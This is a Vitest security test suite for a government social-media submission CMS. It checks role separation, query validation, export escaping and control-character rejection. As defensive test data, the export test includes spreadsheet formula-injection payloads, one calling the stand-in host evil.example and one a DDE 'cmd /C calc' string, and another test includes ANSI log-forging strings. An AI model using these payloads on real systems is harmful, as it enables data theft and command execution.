/**
 * Issue 13 ("the record cannot be bent"), items 6, 9, 11, 12 and 21 through the real
 * REST handlers: each refused request gets its exact status and rule, and nothing changed.
 */
import { REST_POST } from '@payloadcms/next/routes'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { XMLValidator } from 'fast-xml-parser'
import { beforeAll, describe, expect, it } from 'vitest'
import { verifyRegisterInDatabase } from '../../src/register/chain.js'
import { createTestApp, type TestApp } from '../helpers/app.js'
import {
  countRows,
  createPeople,
  createPhotos,
  createSubmissionIn,
  PASSWORD,
  validContent,
  type ActorName,
  type Person,
} from '../helpers/fixtures.js'

let app: TestApp
let people: Record<ActorName, Person>
let owner: Person
let photos: number[]

beforeAll(async () => {
  app = await createTestApp('security_workflow')
  people = await createPeople(app)
  owner = people['tim-pelaksana']
  photos = await createPhotos(app.payload, owner, 4)
})

async function personWith(email: string, name: string, roles: string[]): Promise<Person> {
  const user = await app.payload.create({
    collection: 'users',
    data: { email, password: PASSWORD, name, roles } as never,
    overrideAccess: true,
  })
  const { token } = await app.payload.login({
    collection: 'users',
    data: { email, password: PASSWORD },
  })
  return { id: user.id as number, email, roles: roles as Person['roles'], token: token! }
}

const act = (who: Person, submission: number | string, action: string, note?: string) =>
  app.rest('POST', 'reviews', {
    token: who.token,
    json: { submission, action, ...(note ? { note } : {}) },
  })

const rowOf = async (id: number | string) =>
  (
    await app.sql<{ title: string; caption: string; status: string; pending_corrections: unknown }>(
      'select title, caption, status, pending_corrections from submissions where id = $1',
      [id],
    )
  )[0]!

describe('item 6: separation of duties applies to edits', () => {
  it('a creator who also holds ketua-ppid cannot correct their own submission while accepted (403 editOwnContent)', async () => {
    const both = await personWith('pelaksana-ketua@test.lamandaukab.go.id', 'Pelaksana dan Ketua', [
      'tim-pelaksana',
      'ketua-ppid',
    ])
    const created = await app.rest('POST', 'submissions', {
      token: both.token,
      json: validContent(await createPhotos(app.payload, both, 4, 'pk')),
    })
    expect(created.status).toBe(201)
    const id = created.body.doc.id
    expect((await act(both, id, 'submit')).status).toBe(201)
    expect((await act(people['tim-pertimbangan'], id, 'accept')).status).toBe(201)
    const before = await rowOf(id)
    const reviews = await countRows(app, 'reviews')
    const res = await app.rest('PATCH', `submissions/${id}`, {
      token: both.token,
      json: { caption: 'Dikoreksi oleh pembuatnya sendiri' },
    })
    expect(res.status, JSON.stringify(res.body)).toBe(403)
    expect(res.body.errors[0].data.rule).toBe('editOwnContent')
    expect(await rowOf(id)).toEqual(before)
    expect(await countRows(app, 'reviews')).toBe(reviews)
    // The workbench agrees: no edit button.
    const bench = await app.rest('GET', `sop-medsos/workbench/${id}`, { token: both.token })
    expect(bench.status).toBe(200)
    expect(bench.body.canEdit).toBe(false)
  })

  it('someone who accepted it as tim-pertimbangan cannot then correct it as ketua-ppid (403 editSeparation)', async () => {
    const both = await personWith(
      'pertimbangan-ketua@test.lamandaukab.go.id',
      'Pertimbangan dan Ketua',
      ['tim-pertimbangan', 'ketua-ppid'],
    )
    const s = await createSubmissionIn(app.payload, owner, 'submitted', photos)
    expect((await act(both, s.id, 'accept')).status).toBe(201)
    const before = await rowOf(s.id)
    const res = await app.rest('PATCH', `submissions/${s.id}`, {
      token: both.token,
      lang: 'en',
      json: { title: 'Diubah oleh penerima' },
    })
    expect(res.status, JSON.stringify(res.body)).toBe(403)
    expect(res.body.errors[0].data.rule).toBe('editSeparation')
    expect(res.body.errors[0].message).toContain('separation of duties')
    expect(await rowOf(s.id)).toEqual(before)
    // GraphQL takes the same path.
    const gql = await app.graphql(
      `mutation { updateSubmission(id: ${s.id}, data: { title: "lewat GraphQL" }) { id } }`,
      { token: both.token },
    )
    expect(gql.body.errors?.length).toBeGreaterThan(0)
    expect(await rowOf(s.id)).toEqual(before)
  })

  it('each correction records who made it; another Ketua’s verify review keeps the editor', async () => {
    const second = await personWith('ketua-dua@test.lamandaukab.go.id', 'Ketua Kedua', [
      'ketua-ppid',
    ])
    const s = await createSubmissionIn(app.payload, owner, 'accepted', photos)
    const ketua = people['ketua-ppid']
    expect(
      (
        await app.rest('PATCH', `submissions/${s.id}`, {
          token: ketua.token,
          json: { caption: 'Caption dikoreksi Ketua' },
        })
      ).status,
    ).toBe(200)
    expect(
      (
        await app.rest('PATCH', `submissions/${s.id}`, {
          token: second.token,
          json: { title: 'Judul dikoreksi Ketua Kedua' },
        })
      ).status,
    ).toBe(200)
    const verify = await act(second, s.id, 'verify')
    expect(verify.status, JSON.stringify(verify.body)).toBe(201)
    expect(verify.body.doc.actor).toMatchObject({ id: second.id })
    expect(verify.body.doc.corrections).toEqual([
      {
        field: 'title',
        before: validContent(photos).title,
        after: 'Judul dikoreksi Ketua Kedua',
        editors: [{ id: second.id, name: 'Ketua Kedua' }],
      },
      {
        field: 'caption',
        before: validContent(photos).caption,
        after: 'Caption dikoreksi Ketua',
        editors: [{ id: ketua.id, name: 'User ketua-ppid' }],
      },
    ])
    expect(await verifyRegisterInDatabase(app.databaseUri)).toMatchObject({ ok: true })
  })
})

const TABLES = [
  'submissions',
  'media',
  'reviews',
  'register',
  'notifications',
  'users',
  'publications',
  'social_accounts',
]
async function counts(): Promise<Record<string, number>> {
  const out: Record<string, number> = {}
  for (const t of TABLES) out[t] = await countRows(app, t)
  return out
}

describe('item 21: no bare 500s', () => {
  it('where[narrative][like] and other operators a column cannot answer are a 400 naming the rule', async () => {
    for (const query of [
      'where[narrative][like]=x',
      'where[narrative][contains]=x',
      'where[narrative.root.children][like]=x',
      'where[or][0][narrative][equals]=x',
    ]) {
      const res = await app.rest('GET', `submissions?${query}`, {
        token: people['ketua-ppid'].token,
      })
      expect(res.status, `${query} ${JSON.stringify(res.body)}`).toBe(400)
      expect(res.body.errors[0].data.rule).toBe('whereUnsupported')
    }
    const anon = await app.rest('GET', 'submissions?where[narrative][like]=x')
    expect(anon.status).toBe(400)
    // The same family of bare 500s: operators the column type cannot answer, ids that are not ids.
    for (const query of [
      'submissions?where[activityDate][like]=x',
      'submissions?where[status][like]=dr',
      'submissions?where[title][near]=1,2',
      'submissions?where[photos][all]=1',
      'submissions?where[createdBy][like]=x',
      'submissions?where[createdBy][equals]=abc',
      'submissions?where[createdBy.createdAt][like]=x',
      'submissions?where[id][equals]=abc',
      'register?where[sequence][contains]=1',
      'reviews?where[corrections][like]=x',
      'social-accounts?where[enabled][like]=x',
      'users?where[roles][like]=adm',
    ]) {
      const res = await app.rest('GET', query, { token: people.admin.token })
      expect(res.status, `${query} ${JSON.stringify(res.body)}`).toBe(400)
      expect(res.body.errors[0].data.rule).toBe('whereUnsupported')
    }
    // Queries the admin and the workbench make keep working.
    for (const query of [
      'submissions?where[status][in]=draft,submitted',
      'submissions?where[photos][in]=1,2',
      'submissions?where[createdBy.name][like]=x',
      'reviews?where[corrections.field][like]=ti',
      'users?where[roles][contains]=admin',
      'notifications?where[read][equals]=false',
      'media?where[mimeType][contains]=image',
    ]) {
      expect((await app.rest('GET', query, { token: people.admin.token })).status, query).toBe(200)
    }
    // `exists` on it is a fine question.
    expect(
      (
        await app.rest('GET', 'submissions?where[narrative][exists]=true', {
          token: people['ketua-ppid'].token,
        })
      ).status,
    ).toBe(200)
  })

  it('a text/plain body to POST /api/reviews is a 400 (bodyInvalid), nothing written', async () => {
    const before = await counts()
    const s = await createSubmissionIn(app.payload, owner, 'submitted', photos)
    const after = await counts()
    for (const [type, body] of [
      ['text/plain', 'action=accept'],
      ['text/plain', ''],
      ['application/x-www-form-urlencoded', `submission=${s.id}&action=accept`],
    ] as const) {
      const res = await REST_POST(app.config)(
        new Request('http://localhost:3000/api/reviews', {
          method: 'POST',
          headers: {
            'Content-Type': type,
            Authorization: `JWT ${people['tim-pertimbangan'].token}`,
            'Accept-Language': 'id',
          },
          body,
        }),
        { params: Promise.resolve({ slug: ['reviews'] }) },
      )
      const json = (await res.json()) as any
      expect(res.status, `${type} ${JSON.stringify(json)}`).toBe(400)
      expect(json.errors[0].data.rule).toBe('bodyInvalid')
    }
    expect(await counts()).toEqual(after)
    expect(after.submissions).toBe(before.submissions! + 1)
  })

  it('deleting a social account that has publications is refused (403 accountHasPublications); it can be disabled', async () => {
    const medsos = people['admin-medsos']
    const acc = await app.rest('POST', 'social-accounts', {
      token: medsos.token,
      json: { label: 'Manual', platform: 'manual' },
    })
    expect(acc.status).toBe(201)
    const s = await createSubmissionIn(app.payload, owner, 'approved', photos)
    await app.payload.create({
      collection: 'publications',
      data: {
        submission: s.id,
        account: acc.body.doc.id,
        platform: 'manual',
        status: 'queued',
      } as never,
      overrideAccess: true,
    })
    const before = await counts()
    const res = await app.rest('DELETE', `social-accounts/${acc.body.doc.id}`, {
      token: people.admin.token,
    })
    expect(res.status, JSON.stringify(res.body)).toBe(403)
    expect(res.body.errors[0].data.rule).toBe('accountHasPublications')
    const bulk = await app.rest('DELETE', `social-accounts?where[id][equals]=${acc.body.doc.id}`, {
      token: people.admin.token,
    })
    expect(bulk.status, JSON.stringify(bulk.body)).toBeGreaterThanOrEqual(400)
    expect(bulk.status).toBeLessThan(500)
    expect(JSON.stringify(bulk.body)).toContain('nonaktifkan saja')
    expect(await counts()).toEqual(before)
    expect(
      (
        await app.rest('PATCH', `social-accounts/${acc.body.doc.id}`, {
          token: medsos.token,
          json: { enabled: false },
        })
      ).status,
    ).toBe(200)
    // An account without publications is deleted as before.
    const spare = await app.rest('POST', 'social-accounts', {
      token: medsos.token,
      json: { label: 'Cadangan', platform: 'manual' },
    })
    expect(
      (
        await app.rest('DELETE', `social-accounts/${spare.body.doc.id}`, {
          token: people.admin.token,
        })
      ).status,
    ).toBe(200)
  })
})

const month = () => {
  const d = new Date(Date.now() + 7 * 3600_000) // WIB
  return `${d.getUTCFullYear()}-${String(d.getUTCMonth() + 1).padStart(2, '0')}`
}
const exportAs = (format: string) =>
  app.get(`register/export?format=${format}&period=${month()}`, {
    Authorization: `JWT ${people['ketua-ppid'].token}`,
  })

describe('item 11: register exports', () => {
  it('formula-looking titles and captions are exported as text (leading quote), in CSV and XLSX', async () => {
    const title = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    const caption = "@SUM(1+1)*cmd|' /C calc'!A0"
    const created = await app.rest('POST', 'submissions', {
      token: owner.token,
      json: { ...validContent(photos), title, caption },
    })
    expect(created.status).toBe(201)
    expect((await act(owner, created.body.doc.id, 'submit')).status).toBe(201)
    const [{ register_number: number }] = (await app.sql<{ register_number: string }>(
      'select register_number from submissions where id = $1',
      [created.body.doc.id],
    )) as [{ register_number: string }]

    const csv = await exportAs('csv')
    expect(csv.status).toBe(200)
    const rows = parse(await csv.text(), { bom: true }) as string[][]
    const row = rows.find((r) => r[1] === number)!
    expect(row[4]).toBe(`'${title}`)
    expect(row[7]).toBe(`'${caption}`)
    for (const r of rows.slice(1))
      for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)

    const xlsx = await exportAs('xlsx')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never)
    const ws = wb.getWorksheet('Register')!
    let found = false
    ws.eachRow((r, i) => {
      if (i === 1 || r.getCell(2).value !== number) return
      found = true
      expect(r.getCell(5).value).toBe(`'${title}`)
      expect(r.getCell(8).value).toBe(`'${caption}`)
      expect(r.getCell(5).type).toBe(ExcelJS.ValueType.String)
    })
    expect(found).toBe(true)
  })

  it('register rows keep the name and jabatan at the time of the act: renaming a user does not rewrite past rows', async () => {
    const renamed = await personWith('ganti-nama@test.lamandaukab.go.id', 'Nama Lama', [
      'tim-pelaksana',
    ])
    await app.payload.update({
      collection: 'users',
      id: renamed.id,
      data: { jabatan: 'Staf Lama' } as never,
      overrideAccess: true,
    })
    const created = await app.rest('POST', 'submissions', {
      token: renamed.token,
      json: {
        ...validContent(await createPhotos(app.payload, renamed, 4, 'gn')),
        title: 'Kegiatan sebelum ganti nama',
      },
    })
    expect((await act(renamed, created.body.doc.id, 'submit')).status).toBe(201)
    const [entry] = await app.sql<{
      number: string
      owner_name: string
      owner_jabatan: string
      actor_name: string
      actor_jabatan: string
    }>(
      'select number, owner_name, owner_jabatan, actor_name, actor_jabatan from register where submission_id = $1',
      [created.body.doc.id],
    )
    expect(entry).toMatchObject({
      owner_name: 'Nama Lama',
      owner_jabatan: 'Staf Lama',
      actor_name: 'Nama Lama',
      actor_jabatan: 'Staf Lama',
    })
    await app.payload.update({
      collection: 'users',
      id: renamed.id,
      data: { name: 'Nama Baru', jabatan: 'Staf Baru' } as never,
      overrideAccess: true,
    })
    const rows = parse(await (await exportAs('csv')).text(), { bom: true }) as string[][]
    expect(rows.find((r) => r[1] === entry!.number)![5]).toBe('Nama Lama')
    expect(await verifyRegisterInDatabase(app.databaseUri)).toMatchObject({ ok: true })
  })
})

describe('item 12: control characters', () => {
  it('an ESC, BEL or other C0 control in a text field is a 400 (textControl); tab and new lines are fine', async () => {
    const before = await counts()
    for (const title of [
      'Judul \u001b[31mmerah\u001b[0m',
      'Bel\u0007',
      'Form\u000cfeed',
      'Vertical\u000btab',
    ]) {
      const res = await app.rest('POST', 'submissions', {
        token: owner.token,
        json: { ...validContent(photos), title },
      })
      expect(res.status, JSON.stringify(title)).toBe(400)
      expect(res.body.errors[0].data.rule).toBe('textControl')
    }
    const created = await app.rest('POST', 'submissions', {
      token: owner.token,
      json: { ...validContent(photos), caption: 'baris 1\r\nbaris 2\tkolom' },
    })
    expect(created.status).toBe(201)
    const forged = await app.rest('PATCH', `submissions/${created.body.doc.id}`, {
      token: owner.token,
      json: { location: 'Desa\r\n[12:00:00] ERROR: palsu \u001b[2J' },
    })
    expect(forged.status).toBe(400)
    expect(forged.body.errors[0].data.rule).toBe('textControl')
    const review = await act(people['tim-pertimbangan'], created.body.doc.id, 'accept\u001b[0m')
    expect(review.status).toBe(400)
    expect(review.body.errors[0].data.rule).toBe('textControl')
    const after = await counts()
    expect(after).toEqual({ ...before, submissions: before.submissions! + 1 })
  })

  it('feeds stay valid XML even with a control character stored before the rule', async () => {
    const s = await createSubmissionIn(app.payload, owner, 'published', photos, {
      title: 'Berita lama',
      slug: 'berita-lama-kontrol',
      publishedAt: new Date().toISOString(),
    })
    await app.sql(`update submissions set title = $1 where id = $2`, [
      'Berita \u001b[31mlama\u0007',
      s.id,
    ])
    for (const file of ['rss.xml', 'atom.xml']) {
      const res = await app.get(`news/${file}`)
      expect(res.status).toBe(200)
      const text = await res.text()
      expect(XMLValidator.validate(text), file).toBe(true)
      expect(text).toContain('Berita [31mlama')
    }
  })
})

describe('review findings: GraphQL batches, counts, malformed ids', () => {
  it('an earlier mutation of a GraphQL document cannot switch off the checks of the next one', async () => {
    // The creator also holds ketua-ppid: correcting their own accepted submission is 403
    // editOwnContent (item 6). `a` is refused too, but on its way it loads the submission
    // with the workflow's trust flag, which Payload leaves in the shared req.context.
    const both = await personWith(
      'gql-batch@test.lamandaukab.go.id',
      'Pelaksana dan Ketua (GraphQL)',
      ['tim-pelaksana', 'ketua-ppid'],
    )
    const created = await app.rest('POST', 'submissions', {
      token: both.token,
      json: validContent(await createPhotos(app.payload, both, 4, 'gqlb')),
    })
    const id = created.body.doc.id
    expect((await act(both, id, 'submit')).status).toBe(201)
    expect((await act(people['tim-pertimbangan'], id, 'accept')).status).toBe(201)
    const before = await rowOf(id)
    const gql = await app.graphql(
      `mutation { a: createReview(data: { submission: ${id}, action: verify }) { id } b: updateSubmission(id: ${id}, data: { caption: "Dikoreksi lewat batch GraphQL" }) { id } }`,
      { token: both.token },
    )
    const paths = (gql.body.errors ?? []).map((e: { path?: string[] }) => e.path?.[0])
    expect(paths, JSON.stringify(gql.body)).toContain('a') // `a` really ran (not a schema error)
    expect(paths, JSON.stringify(gql.body)).toContain('b')
    expect(gql.body.data?.b ?? null).toBeNull()
    expect(await rowOf(id)).toEqual(before)
  })

  it('anonymous counts answer no questions about hidden fields (400 queryNotPublic)', async () => {
    for (const route of [
      `media/count?where[uploadedBy][equals]=${owner.id}`,
      `submissions/count?where[createdBy][equals]=${owner.id}`,
      'media/count?where[sha256][exists]=true',
      'submissions/count?where[photos.sha256][exists]=true',
    ]) {
      const res = await app.rest('GET', route)
      expect(res.status, `${route}: ${JSON.stringify(res.body)}`).toBe(400)
      expect(res.body.errors[0].data.rule).toBe('queryNotPublic')
    }
    // Public fields still count.
    expect((await app.rest('GET', 'submissions/count?where[title][like]=Kunjungan')).status).toBe(
      200,
    )
  })

  it('a malformed or out-of-range id is a 4xx, not a failed lock (500)', async () => {
    for (const id of ['abc', '1.5', '3000000000']) {
      const res = await app.rest('PATCH', `submissions/${id}`, {
        token: owner.token,
        json: { title: 'x' },
      })
      expect(res.status, `${id}: ${JSON.stringify(res.body)}`).toBeGreaterThanOrEqual(400)
      expect(res.status, `${id}: ${JSON.stringify(res.body)}`).toBeLessThan(500)
    }
  })
})
